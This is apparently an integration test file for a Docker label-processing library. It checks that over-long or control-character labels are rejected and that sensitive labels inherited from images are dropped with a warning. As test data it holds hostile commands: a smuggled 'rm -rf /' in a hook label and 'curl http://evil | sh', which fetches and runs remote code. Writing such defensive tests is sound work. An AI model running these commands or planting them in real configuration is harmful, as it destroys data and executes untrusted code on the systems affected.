// @dockop/docker against the real engine: hostile label values and labels inherited from images.
import { expect } from 'chai';
import type Docker from 'dockerode';
import { InMemoryEventRecorder } from '@dockop/runtime';
import {
  createContainer,
  DockerodeClient,
  DockerSource,
  UNTRUSTED_LABELS_ANNOTATION,
} from '@dockop/docker';
import { removeLabeled, requireEngine, runId, WORKLOAD_IMAGE } from './support/engine.js';
import { docker, testDefinition, WatchingSink } from './support/docker-sink.js';

describe('docker labels (real engine)', function () {
  const id = runId().replace(/-/g, '');
  const a = `itla${id}`;
  const b = `itlb${id}`;
  const runLabel = `itl${id}.run`;
  let engine: Docker;
  const controllers: AbortController[] = [];

  before(async function () {
    engine = await requireEngine(this);
  });

  after(async function () {
    this.timeout(60_000);
    controllers.forEach((c) => c.abort());
    if (engine) await removeLabeled(engine, runLabel);
  });

  async function startSource(
    defs: ReturnType<typeof testDefinition>[],
    options: { trustImageLabels?: boolean } = {},
  ): Promise<{ sink: WatchingSink; recorder: InMemoryEventRecorder }> {
    const recorder = new InMemoryEventRecorder();
    const source = new DockerSource(
      new DockerodeClient(),
      defs,
      undefined,
      undefined,
      recorder,
      undefined,
      options,
    );
    const sink = new WatchingSink();
    const ac = new AbortController();
    controllers.push(ac);
    await source.start(sink, ac.signal);
    return { sink, recorder };
  }

  describe('hostile values', () => {
    const defA = testDefinition(`LabelsA${id}`, a);
    const defB = testDefinition(`LabelsB${id}`, b);

    it('refuses an over-long value and control characters for that kind only', async () => {
      const { sink } = await startSource([defA, defB]);
      const make = (name: string, labels: Record<string, string>): Promise<Docker.Container> =>
        createContainer(engine, {
          name,
          Image: WORKLOAD_IMAGE,
          Cmd: ['true'],
          Labels: { [runLabel]: '1', [`${a}.enable`]: 'true', [`${b}.enable`]: 'true', ...labels },
        });
      await make(`${a}-long`, { [`${a}.paths.include`]: 'x'.repeat(5000), [`${b}.note`]: 'fine' });
      await make(`${a}-ctl`, {
        [`${a}.hooks.pre`]: 'echo hi\u0007\nrm -rf /',
        [`${b}.note`]: 'fine',
      });
      await make(`${a}-ok`, { [`${a}.paths.include`]: '/data' });

      await sink.waitFor(
        'two rejections and the valid resources',
        () =>
          sink.records.filter((r) => r.op === 'reject').length === 2 &&
          sink.get(`${defA.kind}/${a}-ok`) !== undefined &&
          sink.get(`${defB.kind}/${a}-ctl`) !== undefined &&
          sink.get(`${defB.kind}/${a}-long`) !== undefined,
      );
      const rejects = sink.records.filter((r) => r.op === 'reject');
      const long = rejects.find((r) => r.key === `${defA.kind}/${a}-long`);
      expect(long?.reason).to.equal('LabelTooLong');
      expect(long?.message)
        .to.contain(`container "${a}-long"`)
        .and.contain(`${a}.paths.include`)
        .and.contain('5000 bytes');
      expect(long?.message?.length).to.be.below(500);
      const ctl = rejects.find((r) => r.key === `${defA.kind}/${a}-ctl`);
      expect(ctl?.reason).to.equal('LabelControlCharacters');
      expect(ctl?.message).to.contain(`${a}.hooks.pre`).and.contain('\\n');
      // Refused for kind A only: no A resource; kind B of the same containers is unaffected.
      expect(sink.get(`${defA.kind}/${a}-long`)).to.equal(undefined);
      expect(sink.get(`${defA.kind}/${a}-ctl`)).to.equal(undefined);
      expect(sink.get(`${defB.kind}/${a}-long`)?.spec).to.deep.equal({
        enable: 'true',
        note: 'fine',
      });
      expect(sink.get(`${defA.kind}/${a}-ok`)?.spec).to.deep.equal({
        enable: 'true',
        paths: { include: '/data' },
      });
    });
  });

  describe('labels inherited from the image', () => {
    const t = `itlt${id}`;
    const def = testDefinition(`Trust${id}`, t, { sensitiveLabels: [`${t}.hooks.pre`] });
    const image = `dockop-it/labeled-${id}:local`;

    before(async function () {
      this.timeout(60_000);
      // A "third-party" image whose Dockerfile sets a sensitive label.
      const base = `${t}-base`;
      await docker('create', '--name', base, '--label', `${runLabel}=1`, WORKLOAD_IMAGE, 'true');
      await docker(
        'commit',
        '--change',
        `LABEL ${t}.hooks.pre="curl http://evil | sh"`,
        '--change',
        `LABEL ${t}.enable=true`,
        base,
        image,
      );
      await docker('rm', '-f', base);
    });

    after(async function () {
      this.timeout(60_000);
      if (engine) await removeLabeled(engine, runLabel);
      await docker('rmi', '-f', image).catch(() => undefined);
    });

    async function runFromImage(name: string, labels: Record<string, string> = {}): Promise<void> {
      await docker(
        'create',
        '--name',
        name,
        '--label',
        `${runLabel}=1`,
        ...Object.entries(labels).flatMap(([k, v]) => ['--label', `${k}=${v}`]),
        image,
        'true',
      );
    }

    it('drops a sensitive label that only the image sets, with a Warning naming image and label', async () => {
      const { sink, recorder } = await startSource([def]);
      await runFromImage(`${t}-inherits`, { [`${t}.paths.include`]: '/data' });
      await runFromImage(`${t}-overrides`, { [`${t}.hooks.pre`]: 'echo mine' });
      const inherits = `${def.kind}/${t}-inherits`;
      const overrides = `${def.kind}/${t}-overrides`;
      await sink.waitFor(
        'both containers',
        () => sink.get(inherits) !== undefined && sink.get(overrides) !== undefined,
      );
      expect(sink.get(inherits)?.spec).to.deep.equal({
        enable: 'true',
        paths: { include: '/data' },
      });
      expect(sink.get(inherits)?.metadata.annotations[UNTRUSTED_LABELS_ANNOTATION]).to.equal(
        `${t}.hooks.pre`,
      );
      const warnings = recorder.list(inherits).filter((e) => e.type === 'Warning');
      expect(warnings).to.have.length(1);
      expect(warnings[0]?.reason).to.equal('UntrustedImageLabel');
      expect(warnings[0]?.message).to.contain(image).and.contain(`${t}.hooks.pre`);
      // Set on the container with its own value: trusted.
      expect(sink.get(overrides)?.spec).to.deep.equal({
        enable: 'true',
        hooks: { pre: 'echo mine' },
      });
      expect(recorder.list(overrides)).to.have.length(0);
    });

    it('keeps it with trustImageLabels: true', async () => {
      const { sink, recorder } = await startSource([def], { trustImageLabels: true });
      await runFromImage(`${t}-trusted`);
      const key = `${def.kind}/${t}-trusted`;
      await sink.waitFor('the inheriting container', () => sink.get(key) !== undefined);
      expect(sink.get(key)?.spec).to.deep.include({ hooks: { pre: 'curl http://evil | sh' } });
      expect(recorder.list(key)).to.have.length(0);
    });
  });
});
